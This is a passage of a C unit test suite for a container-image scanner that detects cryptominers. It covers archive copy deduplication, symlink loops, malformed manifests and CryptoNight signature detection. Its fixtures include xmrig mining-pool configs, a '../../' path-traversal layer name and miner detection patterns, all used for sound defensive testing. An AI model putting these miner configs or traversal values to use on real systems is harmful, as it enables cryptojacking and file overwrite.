	hh_seen_digest((const uint8_t *)"b", 1, b);
	uint64_t files = 99;
	assert_int_equal(hh_seen_get(s, a, &files), HH_SEEN_NONE);
	assert_true(hh_seen_begin(s, a));
	assert_false(hh_seen_begin(s, a));
	assert_int_equal(hh_seen_get(s, a, NULL), HH_SEEN_PENDING);
	hh_seen_end(s, a, true, 7);
	assert_int_equal(hh_seen_get(s, a, &files), HH_SEEN_CLEAN);
	assert_int_equal(files, 7);
	assert_true(hh_seen_begin(s, b));
	hh_seen_end(s, b, false, 3);
	assert_int_equal(hh_seen_get(s, b, NULL), HH_SEEN_DIRTY);
	hh_seen_end(s, b, true, 3); /* a verdict is given once */
	assert_int_equal(hh_seen_get(s, b, NULL), HH_SEEN_DIRTY);
	/* full: later digests are not kept, nothing is evicted */
	size_t kept = 2;
	for (uint32_t i = 0; i < HH_SEEN_MAX + 10; i++) {
		uint8_t d[32];
		hh_seen_digest((const uint8_t *)&i, sizeof(i), d);
		if (hh_seen_begin(s, d))
			kept++;
	}
	assert_int_equal(kept, HH_SEEN_MAX);
	assert_int_equal(hh_seen_get(s, a, NULL), HH_SEEN_CLEAN);
	hh_seen_free(s);
}

/* Text that gzip cannot shrink much (an archive over the digest threshold). */
static void noisy_text(char *out, size_t n, uint32_t seed)
{
	for (size_t i = 0; i + 1 < n; i++) {
		seed = seed * 1103515245u + 12345u;
		out[i] = (i % 61 == 60) ? '\n' : (char)('a' + (seed >> 16) % 26);
	}
	out[n - 1] = 0;
}

struct copies_run {
	size_t files, errors, findings;
	uint64_t bytes;
	char paths[8][256];
	size_t n_paths;
};

/* Scans a docker-archive holding one layer made of ents (threads: scan.threads). */
static void scan_layer_image(const struct ent *ents, size_t n, int threads, struct copies_run *out)
{
	size_t llen;
	uint8_t *lt = build_archive(ents, n, NULL, &llen);
	struct ent img[] = { { "l.tar", (const char *)lt, llen, NULL, NULL },
			     { "manifest.json", "[{\"Config\":\"c.json\",\"Layers\":[\"l.tar\"]}]", 0, NULL, NULL },
			     { "c.json", "{\"config\":{},\"rootfs\":{\"type\":\"layers\"}}", 0, NULL, NULL } };
	size_t ilen;
	uint8_t *it = build_archive(img, 3, NULL, &ilen);
	char path[] = "/tmp/hh-scan-unit-copies.XXXXXX";
	write_temp(path, it, ilen);
	struct hh_scan_result res;
	scan_path(path, threads, &res);
	memset(out, 0, sizeof(*out));
	out->files = res.files;
	out->errors = res.errors;
	out->bytes = res.bytes;
	for (size_t i = 0; i < res.findings.n; i++) {
		const char *p = json_string_value(json_object_get(res.findings.items[i]->fields, "image.path"));
		if (!p || strncmp(res.findings.items[i]->rule, "miner.", 6))
			continue;
		out->findings++;
		if (out->n_paths < 8)
			snprintf(out->paths[out->n_paths++], 256, "%s", p);
	}
	free_result(&res);
	unlink(path);
	free(it);
	free(lt);
}

static bool run_has_path(const struct copies_run *r, const char *prefix)
{
	for (size_t i = 0; i < r->n_paths; i++)
		if (!strncmp(r->paths[i], prefix, strlen(prefix)))
			return true;
	return false;
}

/* Scans a directory holding data under each of names. */
static void scan_dir_copies(const char *const *names, size_t n, const uint8_t *data, size_t len, struct copies_run *out)
{
	char root[] = "/tmp/hh-scan-unit-dir.XXXXXX";
	assert_non_null(mkdtemp(root));
	for (size_t i = 0; i < n; i++) {
		char p[512];
		snprintf(p, sizeof(p), "%s/%s", root, names[i]);
		char *slash = strrchr(p, '/');
		*slash = 0;
		mkdir(p, 0700);
		*slash = '/';
		FILE *f = fopen(p, "wb");
		assert_non_null(f);
		assert_int_equal(fwrite(data, 1, len, f), len);
		fclose(f);
	}
	struct hh_scan_result res;
	scan_path(root, -1, &res);
	memset(out, 0, sizeof(*out));
	out->files = res.files;
	out->errors = res.errors;
	out->bytes = res.bytes;
	for (size_t i = 0; i < res.findings.n; i++)
		out->findings += !strncmp(res.findings.items[i]->rule, "miner.", 6);
	free_result(&res);
	char cmd[600];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", root);
	assert_int_equal(system(cmd), 0);
}

static void archive_copies(void **state)
{
	(void)state;
	static char clean_txt[6000], miner_txt[6000];
	noisy_text(clean_txt, sizeof(clean_txt), 1);
	noisy_text(miner_txt, sizeof(miner_txt), 2);
	const char *cfg = "{\"pools\":[{\"url\":\"stratum+tcp://pool.minexmr.com:4444\",\"user\":\"x\"}],\"algo\":\"rx/0\"}\n";
	memcpy(miner_txt, cfg, strlen(cfg));
	struct ent ci[] = { { "notes.txt", clean_txt, 0, NULL, NULL } };
	struct ent mi[] = { { "xmrig/config.json", miner_txt, 0, NULL, NULL } };
	size_t clen, mlen;
	uint8_t *cz = build_archive(ci, 1, "gzip", &clen);
	uint8_t *mz = build_archive(mi, 1, "gzip", &mlen);
	assert_true(clen >= 1024 && mlen >= 1024);
	size_t blen = clen - 200; /* a cut copy: an input error each time it is opened */
	for (int threads = 0; threads <= 2; threads += 2) {
		struct ent one[] = { { "a/clean.tar.gz", (const char *)cz, clen, NULL, NULL } };
		struct ent three[] = { { "a/clean.tar.gz", (const char *)cz, clen, NULL, NULL },
				       { "b/clean.tar.gz", (const char *)cz, clen, NULL, NULL },
				       { "c/clean.tar.gz", (const char *)cz, clen, NULL, NULL } };
		struct copies_run r1, r3;
		scan_layer_image(one, 1, threads, &r1);
		scan_layer_image(three, 3, threads, &r3);
		assert_int_equal(r1.files, 2);
		assert_int_equal(r3.files, 3 * r1.files); /* the copies' files still count */
		assert_int_equal(r3.errors, 0);
		assert_true(r3.bytes < 2 * r1.bytes);    /* the copies were not opened */

		/* copies with findings or errors are opened each time: every copy is reported */
		struct ent mixed[] = { { "a/miner.tar.gz", (const char *)mz, mlen, NULL, NULL },
				       { "a/clean.tar.gz", (const char *)cz, clen, NULL, NULL },
				       { "b/miner.tar.gz", (const char *)mz, mlen, NULL, NULL },
				       { "a/cut.tar.gz", (const char *)cz, blen, NULL, NULL },
				       { "b/cut.tar.gz", (const char *)cz, blen, NULL, NULL },
				       { "b/clean.tar.gz", (const char *)cz, clen, NULL, NULL } };
		struct copies_run rm;
		scan_layer_image(mixed, 6, threads, &rm);
		assert_true(run_has_path(&rm, "/xmrig/config.json") || rm.findings >= 2);
		assert_true(rm.findings >= 2);
		assert_true(rm.errors >= 2);
		struct ent one_miner[] = { { "a/miner.tar.gz", (const char *)mz, mlen, NULL, NULL } };
		struct copies_run r1m;
		scan_layer_image(one_miner, 1, threads, &r1m);
		assert_int_equal(rm.findings, 2 * r1m.findings);
	}
	/* a directory (root filesystem) target: the same */
	struct copies_run d1, d3;
	const char *names1[] = { "a/clean.tar.gz" }, *names3[] = { "a/clean.tar.gz", "b/clean.tar.gz", "c/clean.tar.gz" };
	scan_dir_copies(names1, 1, cz, clen, &d1);
	scan_dir_copies(names3, 3, cz, clen, &d3);
	assert_int_equal(d1.files, 2);
	assert_int_equal(d3.files, 3 * d1.files);
	assert_true(d3.bytes < 2 * d1.bytes);
	const char *miners[] = { "a/miner.tar.gz", "b/miner.tar.gz" };
	struct copies_run dm;
	scan_dir_copies(miners, 2, mz, mlen, &dm);
	assert_true(dm.findings >= 2 && dm.findings % 2 == 0);
	free(cz);
	free(mz);
}

static void dir_symlink_loop(void **state)
{
	(void)state;
	char dir[] = "/tmp/hh-scan-unit.XXXXXX";
	assert_non_null(mkdtemp(dir));
	char p[512];
	snprintf(p, sizeof(p), "%s/sub", dir);
	mkdir(p, 0755);
	snprintf(p, sizeof(p), "%s/sub/loop", dir);
	assert_int_equal(symlink("..", p), 0);
	snprintf(p, sizeof(p), "%s/a", dir);
	assert_int_equal(symlink("b", p), 0);
	snprintf(p, sizeof(p), "%s/b", dir);
	assert_int_equal(symlink("a", p), 0);
	snprintf(p, sizeof(p), "%s/sub/fifo", dir);
	assert_int_equal(mkfifo(p, 0600), 0);
	snprintf(p, sizeof(p), "%s/sub/file", dir);
	FILE *f = fopen(p, "w");
	fputs("hello\n", f);
	fclose(f);
	struct hh_scan_limits lim;
	default_limits(&lim);
	struct seen s = { 0 };
	struct hh_walk_budget b = { 0 };
	struct hh_walk_cb cb = { seen_entry, seen_error, &s, NULL };
	assert_int_equal(hh_walk_dir(dir, &lim, &b, &cb), 0);
	assert_true(has_path(&s, "sub/loop"));
	assert_true(has_path(&s, "sub/file"));
	assert_true(has_path(&s, "sub/fifo"));
	assert_int_equal(s.files, 1);
	char cmd[600];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	assert_int_equal(system(cmd), 0);
}

/* A docker-archive with a malformed manifest.json and one good layer tar:
 * the error names manifest.json with line and column. */
static void malformed_manifest(void **state)
{
	(void)state;
	struct ent layer[] = { { "etc/x.json", "{\"pools\":[{\"url\":\"stratum+tcp://a.b:3333\"}]}", 0, NULL, NULL } };
	size_t llen;
	uint8_t *lt = build_archive(layer, 1, NULL, &llen);
	const char *cases[] = { "[{\"Config\":\"c.json\",\"Layers\":[\"l.tar\"]", /* cut */
				"{\"not\":\"an array\"}", "[{\"Config\":\"c.json\",\"Layers\":[\"../../l.tar\"]}]" };
	for (int k = 0; k < 3; k++) {
		struct ent img[] = { { "l.tar", (const char *)lt, llen, NULL, NULL }, { "manifest.json", cases[k], 0, NULL, NULL },
				     { "c.json", "{\"config\":{}}", 0, NULL, NULL } };
		size_t ilen;
		uint8_t *it = build_archive(img, 3, NULL, &ilen);
		char path[] = "/tmp/hh-scan-unit-img.XXXXXX";
		write_temp(path, it, ilen);
		struct hh_scan_result res;
		scan_path(path, -1, &res);
		assert_true(res.errors >= 1);
		assert_int_equal(res.kind, HH_TARGET_DOCKER_ARCHIVE);
		assert_int_equal(res.layers, 0);
		free_result(&res);
		unlink(path);
		free(it);
	}
	free(lt);
}

/* Proof-of-work code: high in an executable, medium in data or wasm (wallet
 * libraries such as monero-javascript ship CryptoNight in their wasm). */
static void algo_outside_executables(void **state)
{
	(void)state;
	static const uint8_t keccak[] = { 0x01, 0, 0, 0, 0, 0, 0, 0, 0x82, 0x80, 0, 0, 0, 0, 0, 0,
					  0x8a, 0x80, 0, 0, 0, 0, 0, 0x80, 0, 0x80, 0, 0x80, 0, 0, 0, 0x80 };
	static const uint8_t groestl[] = { 0xc6, 0x32, 0xf4, 0xa5, 0xf4, 0x97, 0xa5, 0xc6,
					   0xf8, 0x6f, 0x97, 0x84, 0x97, 0xeb, 0x84, 0xf8 };
	static const uint8_t jh[] = { 0x72, 0xd5, 0xde, 0xa2, 0xdf, 0x15, 0xf8, 0x67,
				      0x7b, 0x84, 0x15, 0x0a, 0xb7, 0x23, 0x15, 0x57 };
	uint8_t buf[4096];
	memset(buf, 0, sizeof(buf));
	memcpy(buf + 200, keccak, sizeof(keccak));
	memcpy(buf + 900, groestl, sizeof(groestl));
	memcpy(buf + 1700, jh, sizeof(jh));
	struct hh_content *c = content();
	struct hh_findings l = { 0 };
	scan_one(c, "/app/wallet.wasm.data", buf, sizeof(buf), &l);
	assert_true(list_has(&l, "miner.algo.cryptonight", HH_SEV_MEDIUM));
	assert_false(list_has(&l, "miner.algo.cryptonight", HH_SEV_HIGH));
	memcpy(buf, "\x7f" "ELF", 4);
	scan_one(c, "/usr/bin/kworker", buf, sizeof(buf), &l);
	assert_true(list_has(&l, "miner.algo.cryptonight", HH_SEV_HIGH));
	hh_findings_clear(&l);
	free(l.items);
	hh_content_free(c);
}

int main(void)
{
	hh_log_set_level(HH_LOG_ERROR);
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(whiteout_classify),
		cmocka_unit_test(hidden_tracking),
		cmocka_unit_test(exe_elf_sections),
		cmocka_unit_test(exe_pe_upx),
		cmocka_unit_test(wasm_checks),
		cmocka_unit_test(base64_alignments),
		cmocka_unit_test(droppers_and_persistence),
		cmocka_unit_test(cron_commands),
		cmocka_unit_test(content_checks),
		cmocka_unit_test(tar_index_cases),
		cmocka_unit_test(walk_formats),
		cmocka_unit_test(hostile_traversal_and_links),
		cmocka_unit_test(hostile_tar_bomb),
		cmocka_unit_test(hostile_gzip_bomb),
		cmocka_unit_test(hostile_truncated_gzip),
		cmocka_unit_test(nested_archives),
		cmocka_unit_test(seen_table),
		cmocka_unit_test(archive_copies),
		cmocka_unit_test(dir_symlink_loop),
		cmocka_unit_test(malformed_manifest),
		cmocka_unit_test(algo_outside_executables),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
